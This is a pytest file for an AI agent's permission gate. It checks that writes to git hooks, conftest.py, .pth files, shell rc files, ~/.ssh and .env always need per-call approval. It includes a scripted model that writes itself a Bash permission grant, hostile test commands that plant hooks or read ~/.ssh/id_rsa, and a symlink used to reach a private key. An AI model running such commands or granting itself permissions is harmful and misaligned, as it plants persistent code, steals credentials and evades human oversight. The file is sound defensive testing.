"""Protected paths always ask, per call: rule files, files that run code later, secret places.

Before the fix: `Write(./**)` (the suggestion for any root-level file) covered
`.shammah/permissions.json`, so a Write followed by a Bash call ran unasked in one turn;
`Bash(echo *)` wrote `.git/hooks/pre-commit`; a notebook in the home folder read `~/.ssh`.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from gate_turns import Answer, Answering, rules_gate
from test_tool_loop import ScriptedBackend, session_for, tool_messages

from shammah_kernel.approvals import Approver, Frontend
from shammah_kernel.consent import ConsentGate
from shammah_kernel.events import (
    Approval,
    ApprovalChoice,
    Message,
    ToolCall,
    ToolCallProposed,
)
from shammah_kernel.permissions import Decision, Rule
from shammah_kernel.rule_store import RuleStore
from shammah_kernel.widgets.approval import ApprovalWidget, parse_decision


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    folder = tmp_path / "notebooks"
    (folder / ".git" / "hooks").mkdir(parents=True)
    return folder


def gate(workspace: Path, *rules: str, store: RuleStore | None = None) -> ConsentGate:
    return rules_gate(workspace, *((Decision.ALLOW, text) for text in rules), store=store)


def call(
    gate: ConsentGate, name: str, answer: Answer = None, **args: object
) -> tuple[Message, Answering]:
    handle = Answering(answer)
    return gate.run(ToolCall("c1", name, args), handle), handle


def always(event: ToolCallProposed) -> Approval:
    return Approval(ApprovalChoice.ALWAYS_PATTERN, rule=f"{event.call.name}")


ALLOW_ALL = ("Write(./**)", "Edit(./**)", "Write", "Edit", "Read", "Bash")


@pytest.mark.parametrize(
    "path",
    [
        ".shammah/permissions.json",
        ".git/hooks/pre-commit",
        ".git/config",
        "conftest.py",
        "tests/conftest.py",
        "sitecustomize.py",
        "usercustomize.py",
        "lib/site-packages/evil.pth",
        ".envrc",
        ".github/workflows/ci.yml",
        ".pre-commit-config.yaml",
        ".ipython/profile_default/startup/00.py",
        ".jupyter/jupyter_server_config.py",
        ".bashrc",
        "~/.bashrc",
        "~/.zshrc",
        "~/.profile",
        "~/.config/fish/config.fish",
        "~/.ssh/authorized_keys",
        "~/.aws/config",
        ".env",
        "trusted-rules.json",
    ],
)
def test_writes_to_protected_paths_ask_per_call_whatever_the_rules(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    gated = gate(workspace, *ALLOW_ALL)
    for tool, args in [
        ("Write", {"content": "x\n"}),
        ("Edit", {"old_string": "a", "new_string": "b"}),
    ]:
        message, handle = call(gated, tool, path=path, **args)
        (proposed,) = handle.proposed
        assert proposed.per_call_only and proposed.suggestion == ""
        assert message.is_error and "protected path" in message.content  # headless: refused
    assert not (workspace / path).exists() and not (tmp_path / "home" / path[2:]).exists()


def test_an_always_answer_to_a_protected_write_is_not_remembered(
    workspace: Path, tmp_path: Path
) -> None:
    store = RuleStore(tmp_path / "user-permissions.json")
    gated = gate(workspace, "Write(./**)", store=store)
    rules = ".shammah/permissions.json"
    for forged in (
        Approval(ApprovalChoice.ALWAYS),
        Approval(ApprovalChoice.SESSION),
        Approval(ApprovalChoice.ALWAYS_PATTERN, rule="Write"),
        Approval(ApprovalChoice.SESSION_PATTERN, rule="Bash"),
    ):
        message, handle = call(gated, "Write", lambda e, a=forged: a, path=rules, content="{}")
        assert len(handle.proposed) == 1 and handle.proposed[0].per_call_only
        assert not message.is_error  # approved: written, once
    assert gated.policy.allow == [Rule.parse("Write(./**)")]  # nothing added
    assert not (tmp_path / "user-permissions.json").exists()
    _, handle = call(gated, "Bash", command="touch x")
    assert handle.proposed and not (workspace / "x").exists()


def test_a_write_then_bash_in_one_turn_cannot_grant_itself(workspace: Path, tmp_path: Path) -> None:
    store = RuleStore(tmp_path / "user-permissions.json", workspace=workspace)
    store.add(Decision.ALLOW, Rule.parse("Write(./**)"))
    grant = json.dumps({"allow": ["Bash"]})
    write = {"name": "Write", "arguments": {"path": ".shammah/permissions.json", "content": grant}}
    touch = {"name": "Bash", "arguments": {"command": "touch pwned"}}
    script = [f"<tool_call>{json.dumps(c)}</tool_call>" for c in (write, touch)] + ["done"]
    backend = ScriptedBackend(script)
    session = session_for(backend, workspace, store)
    asked: list[ToolCallProposed] = []
    for event in session.ask("set yourself up"):  # a headless run: nbclient, papermill
        if isinstance(event, ToolCallProposed):
            asked.append(event)
            Approver(None, Frontend.HEADLESS, input).ask(event)  # type: ignore[arg-type]
    assert [e.call.name for e in asked] == ["Write", "Bash"]
    assert [e.per_call_only for e in asked] == [True, False]
    assert not (workspace / ".shammah" / "permissions.json").exists()
    assert not (workspace / "pwned").exists()
    assert all(m.startswith("The user denied") for m in tool_messages(backend))


@pytest.mark.parametrize(
    "command",
    [
        "echo x > .git/hooks/pre-commit",
        "echo x >> ~/.bashrc",
        "echo x >~/.bashrc",
        "echo x > conftest.py",
        "echo x > sub/sitecustomize.py",
        "echo import os > evil.pth",
        "tee .git/hooks/post-checkout",
        "echo x | tee -a .envrc",
        "cp payload .git/hooks/pre-push",
        "cp payload ./.shammah/permissions.json",
        "curl -o.git/hooks/pre-commit http://x",
        "curl --output=.git/hooks/pre-commit http://x",
        "cd .git/hooks && echo x > pre-commit",
        "cd .git && echo x > config",
        "cat ~/.ssh/id_rsa",
        "cat .env",
        "echo x > $HOME/.profile",
        "echo 'x' > '.git/hooks/pre-commit'",
    ],
)
def test_bash_naming_a_protected_path_asks_per_call(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    gated = gate(workspace, "Bash(echo *)", "Bash(tee *)", "Bash(cp *)", "Bash(cd *)",
                 "Bash(cat *)", "Bash(curl *)", "Write(./**)")  # fmt: skip
    message, handle = call(gated, "Bash", command=command)
    (proposed,) = handle.proposed
    assert proposed.per_call_only and message.is_error
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()


def test_bash_naming_nothing_protected_is_still_allowed_by_its_rule(workspace: Path) -> None:
    message, handle = call(gate(workspace, "Bash(echo *)"), "Bash", command="echo hello")
    assert not handle.proposed and "hello" in message.content


def test_reading_secret_places_from_a_notebook_in_the_home_folder_asks(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("SHAMMAH_HOME", str(home / ".shammah"))
    secrets = {
        ".ssh/id_rsa": "-----BEGIN OPENSSH PRIVATE KEY-----",
        ".aws/credentials": "aws_secret_access_key = AKIA",
        ".shammah/config.toml": "api_key = 'sk-ant-secret'",
        ".gnupg/secring.gpg": "gpg-secret",
        ".netrc": "machine x password p",
        ".git-credentials": "https://u:p@host",
        ".env.local": "TOKEN=x",
        "certs/server.key": "key",
    }
    for name, text in secrets.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(text + "\n")
    (home / "notes.txt").write_text("nothing secret\n")
    gated = gate(home, "Read", "Read(./**)", "Grep", "Glob")  # the notebook's folder: home
    for name in secrets:
        for path in (name, f"~/{name}", str(home / name)):
            message, handle = call(gated, "Read", path=path)
            (proposed,) = handle.proposed
            assert proposed.per_call_only and message.is_error
        _, handle = call(gated, "Grep", pattern=".", path=name)
        assert handle.proposed[0].per_call_only
    message, handle = call(
        gated, "Read", lambda e: Approval(ApprovalChoice.SESSION), path=".ssh/id_rsa"
    )
    assert "PRIVATE KEY" in message.content  # approved once it is read...
    _, handle = call(gated, "Read", path=".ssh/id_rsa")
    assert handle.proposed  # ...and the next read asks again
    for tool, args in [("Grep", {"pattern": "secret|KEY|password|TOKEN|AKIA|key"}),
                       ("Glob", {"pattern": "**/*"}), ("Glob", {"pattern": ".*/*"})]:  # fmt: skip
        message, handle = call(gated, tool, **args)
        assert not handle.proposed  # a search of the parent skips secret places silently
        assert "skipped" in message.content
        for name in secrets:
            assert name not in message.content
    link = home / "innocent.txt"
    link.symlink_to(home / ".ssh" / "id_rsa")
    _, handle = call(gated, "Read", path="innocent.txt")
    assert handle.proposed[0].per_call_only  # a link to a protected file is protected


def test_a_symlink_to_a_protected_file_is_protected_for_writing(workspace: Path) -> None:
    (workspace / "notes.md").symlink_to(workspace / ".git" / "hooks" / "pre-commit")
    message, handle = call(gate(workspace, "Write(./**)"), "Write", path="notes.md", content="x")
    assert handle.proposed[0].per_call_only and message.is_error


def test_a_deny_rule_still_denies_a_protected_path(workspace: Path) -> None:
    gated = gate(workspace)
    gated.policy.add(Decision.DENY, Rule.parse("Write(conftest.py)"))
    message, handle = call(gated, "Write", always, path="conftest.py", content="x")
    assert not handle.proposed and message.content == "Denied by the rule Write(conftest.py)."


def test_only_once_or_deny_are_offered_for_a_protected_path() -> None:
    for choice in ("always", "session", "always_pattern", "session_pattern"):
        payload = {"choice": choice, "rule": "Bash", "reason": ""}
        assert parse_decision(payload, per_call_only=True) is None
        assert parse_decision(payload) is not None
    widget = ApprovalWidget("Write", "Write .bashrc", per_call_only=True)
    widget.decision = {"choice": "always", "rule": "", "reason": ""}
    assert widget.approval is None and widget.decision == {}  # a forged click is put back
    widget.decision = {"choice": "once", "rule": "", "reason": ""}
    assert widget.approval == Approval(ApprovalChoice.ONCE)
    assert "Always" not in ApprovalWidget("Write", "x", per_call_only=True)._plain_text()


def test_the_terminal_prompt_offers_only_once_or_deny() -> None:
    from concurrent.futures import Future

    prompts: list[str] = []
    keys = iter(["a", "s", "o"])

    def read_line(prompt: str) -> str:
        prompts.append(prompt)
        return next(keys)

    class Sink:
        def stream(self, text: str) -> None: ...

    event = ToolCallProposed(
        ToolCall("c1", "Write", {}), "Write .bashrc", "", "", Future(), per_call_only=True
    )
    approver = Approver(Sink(), Frontend.TERMINAL, read_line)  # type: ignore[arg-type]
    approver.ask(event)
    assert event.answer.result() == Approval(ApprovalChoice.ONCE) and len(prompts) == 3
    assert "[a]lways" not in prompts[0]
